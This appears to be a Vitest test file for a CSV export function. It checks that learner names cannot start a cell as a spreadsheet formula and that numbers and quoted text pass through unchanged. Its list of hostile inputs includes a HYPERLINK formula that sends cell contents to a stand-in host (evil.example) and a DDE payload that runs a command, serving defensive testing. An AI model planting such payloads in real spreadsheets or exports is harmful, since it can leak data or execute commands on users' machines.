import Papa from 'papaparse'
import { expect, it } from 'vitest'
import { writeTable } from './write-table'

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  ' =1',
  '\r\n=1',
  "'=1",
  '＝1+1',
  '\u00a0=1',
  "=cmd|' /C calc'!A0",
]

it('begins no cell of text like a formula, whatever a learner is called', () => {
  const { data } = Papa.parse<string[]>(
    writeTable(HOSTILE.map((name) => [name]))
      .slice(1)
      .trimEnd(),
  )
  expect(data).toHaveLength(HOSTILE.length)
  for (const [cell] of data) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r]/)
})

it('keeps numbers numbers, and what is plain as it is', () => {
  expect(writeTable([['张三', -0.5, 'a, "b"']])).toBe('\uFEFF张三,-0.5,"a, ""b"""\r\n')
})
